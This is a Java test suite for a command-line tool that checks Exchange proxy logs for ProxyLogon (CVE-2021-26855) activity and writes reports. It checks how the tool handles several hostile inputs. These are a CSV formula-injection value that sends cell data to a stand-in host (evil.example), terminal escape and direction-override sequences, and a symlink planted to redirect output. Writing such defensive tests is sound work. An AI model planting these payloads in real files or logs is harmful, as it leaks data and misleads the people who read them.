package org.hygiene.lessons.check;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.jr.ob.JSON;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.hygiene.core.testing.TestIo;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CheckCommandTest {
    @TempDir Path home;
    @TempDir Path logs;

    @Test
    void aCompromiseExitsOneAndOutWritesTestProxyLogonsFiles() throws IOException {
        Logs.write(logs, "hostname.txt", "EX01\n");
        Logs.write(
                logs,
                LogCheckTest.ECP,
                Logs.PROXY_HEADER
                        + CheckHostileInputTest.HIT.replace(
                                "python-requests", "\u001b[2Jpython-requests"));
        Path out = home.resolve("out");
        TestIo io = new TestIo(home);

        int status = io.run("check", "--logs", logs.toString(), "--out", out.toString());

        assertThat(status).isEqualTo(1);
        assertThat(io.out())
                .contains("ProxyLogon Status: Exchange Server EX01")
                .contains("[CVE-2021-26855] Suspicious activity found in Http Proxy log!")
                .contains("1.2.3.4 (1)")
                .doesNotContain("\u001b");
        assertThat(Files.readString(out.resolve("EX01-Cve-2021-26855.csv")))
                .startsWith(
                        "\"DateTime\",\"RequestId\",\"ClientIpAddress\",\"UrlHost\",\"UrlStem\",\"RoutingHint\",\"UserAgent\",\"AnchorMailbox\",\"HttpStatus\"\r\n")
                .contains("\"2021-03-03T06:49:43.699Z\"");
        assertThat(out.resolve("EX01-LogAgeDays.csv")).exists();
    }

    @Test
    void threadsOutsideOneToSixtyFourAreRefusedWithASentence() {
        for (String threads : new String[] {"0", "-5", "65", "100000"}) {
            TestIo io = new TestIo(home);

            int status = io.run("check", "--logs", logs.toString(), "--threads", threads);

            assertThat(status).as(threads).isEqualTo(2);
            assertThat(io.err())
                    .as(threads)
                    .isEqualTo("hygiene check: --threads must be between 1 and 64\n");
            assertThat(io.out()).as(threads).isEmpty();
        }
    }

    @Test
    void jsonIsPlainAsciiThatReadsBackToTheLogsText() throws IOException {
        String agent = "\u001b]0;owned\u0007\u202eZo\u00eb\\";
        Logs.write(
                logs,
                LogCheckTest.ECP,
                Logs.PROXY_HEADER
                        + CheckHostileInputTest.HIT.replace("python-requests/2.25.1", agent));
        TestIo io = new TestIo(home);

        int status = io.run("check", "--logs", logs.toString(), "--format", "json");

        assertThat(status).isEqualTo(1);
        assertThat(io.out().chars().allMatch(c -> c >= 0x20 && c < 0x7f || c == '\n')).isTrue();
        assertThat(io.out()).contains("\"verdict\": \"suspicious\"").contains("\\u001B]0;owned");
        Map<String, Object> doc = JSON.std.mapFrom(io.out());
        Object finding =
                ((Map<?, ?>)
                        ((List<?>)
                                        ((Map<?, ?>) ((List<?>) doc.get("checks")).get(0))
                                                .get("findings"))
                                .get(0));
        assertThat(((Map<?, ?>) ((Map<?, ?>) finding).get("values")).get("UserAgent"))
                .isEqualTo(agent);
    }

    @Test
    void csvOnStandardOutputAndInOutFilesNeverCarriesALiveFormula() throws IOException {
        String formula = "=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")";
        Logs.write(
                logs,
                LogCheckTest.ECP,
                Logs.PROXY_HEADER
                        + CheckHostileInputTest.HIT.replace(
                                "python-requests/2.25.1", "\"" + formula + "\""));
        Path out = home.resolve("out");
        TestIo io = new TestIo(home);

        int status =
                io.run(
                        "check",
                        "--logs",
                        logs.toString(),
                        "--format",
                        "csv",
                        "--computer",
                        "EX01",
                        "--out",
                        out.toString());

        assertThat(status).isEqualTo(1);
        String guarded = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1";
        // On standard output the user agent sits inside the Detail cell, after the time.
        assertThat(io.out()).contains("=HYPERLINK").doesNotContain(",\"=");
        assertThat(Files.readString(out.resolve("EX01-Cve-2021-26855.csv")))
                .contains(guarded)
                .doesNotContain(",\"=HYPERLINK");
    }

    @Test
    void aCleanTreeExitsZeroAndJsonSaysClean() throws IOException {
        Logs.write(
                logs,
                LogCheckTest.ECP,
                Logs.PROXY_HEADER
                        + Logs.proxy(
                                "2021-03-03T06:49:43.699Z", "Sid~S-1-5-21-1", 200, "10.0.0.1"));
        TestIo io = new TestIo(home);

        int status = io.run("check", "--logs", logs.toString(), "--format", "json");

        assertThat(status).isZero();
        assertThat(io.out())
                .contains("\"verdict\": \"clean\"")
                .contains("\"status\": \"not-checked\"");
    }

    @Test
    void badUsageAndMissingFoldersExitTwo() {
        TestIo io = new TestIo(home);

        assertThat(io.run("check", "--logs", logs.resolve("nope").toString())).isEqualTo(2);
        assertThat(io.err()).contains("no such folder");
        assertThat(io.run("check", "--logs", logs.toString(), "--format", "xml")).isEqualTo(2);
        assertThat(io.run("check")).isEqualTo(2);
    }

    @Test
    void theProgressBarGoesToStandardErrorOnlyWhenAsked() throws IOException {
        Logs.write(logs, LogCheckTest.ECP, Logs.PROXY_HEADER);
        TestIo io = new TestIo(home);

        io.run("check", "--logs", logs.toString(), "--progress", "never");
        assertThat(io.err()).isEmpty();
        ProgressBar bar =
                new ProgressBar(
                        new java.io.PrintWriter(new java.io.StringWriter()),
                        java.time.Clock.systemUTC(),
                        80);
        bar.started(10, 1 << 20);
        assertThat(bar.line(System.currentTimeMillis())).startsWith("[").contains("0/10 files");
    }

    @Test
    void aLineThatCouldNotBeCheckedMakesTheVerdictIncompleteInEveryFormat() throws IOException {
        // A ServerInfo~ line over 1 MiB may hold a hit; it is skipped, so nothing is "clean".
        Logs.write(
                logs,
                LogCheckTest.ECP,
                Logs.PROXY_HEADER
                        + "ServerInfo~"
                        + "x".repeat(1_100_000)
                        + "\n"
                        + Logs.proxy(
                                "2021-03-03T06:49:43.699Z", "Sid~S-1-5-21-1", 200, "10.0.0.1"));
        for (String format : java.util.List.of("text", "json", "csv")) {
            TestIo io = new TestIo(home);
            int status = io.run("check", "--logs", logs.toString(), "--format", format);
            assertThat(status).as(format).isEqualTo(2);
            assertThat(io.out()).doesNotContain("\"verdict\": \"clean\"");
            if (format.equals("json")) {
                assertThat(io.out()).contains("\"verdict\": \"incomplete\"");
            }
            if (format.equals("text")) {
                assertThat(io.out())
                        .contains("Nothing suspicious detected in what could be read")
                        .doesNotContain("  Nothing suspicious detected\n");
            }
        }
    }

    @Test
    void outNeverFollowsALinkPlantedInTheFolder() throws IOException {
        Logs.write(logs, "hostname.txt", "EX01\n");
        Logs.write(logs, LogCheckTest.ECP, Logs.PROXY_HEADER + CheckHostileInputTest.HIT);
        Path out = Files.createDirectories(home.resolve("out"));
        Path victim = Files.writeString(home.resolve("victim.txt"), "precious\n");
        Files.createSymbolicLink(out.resolve("EX01-Cve-2021-26855.csv"), victim);
        // A regular file of ours from an earlier run is replaced, as the script does.
        Files.writeString(out.resolve("EX01-LogAgeDays.csv"), "old\n");
        TestIo io = new TestIo(home);

        int status = io.run("check", "--logs", logs.toString(), "--out", out.toString());

        assertThat(status).isEqualTo(2);
        assertThat(Files.readString(victim)).isEqualTo("precious\n");
        assertThat(Files.isSymbolicLink(out.resolve("EX01-Cve-2021-26855.csv"))).isTrue();
        assertThat(io.err()).contains("is not a regular file").contains("does not replace it");
        try (var left = Files.list(out)) {
            assertThat(left.map(p -> p.getFileName().toString()))
                    .noneMatch(n -> n.endsWith(".tmp"));
        }
    }

    @Test
    void helpKeepsTheDefaultWindowsPathWholeOnOneLine() {
        TestIo io = new TestIo(home);

        io.run("check", "--help");

        assertThat(io.out())
                .contains("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\")
                .doesNotContain("C:\n");
    }
}
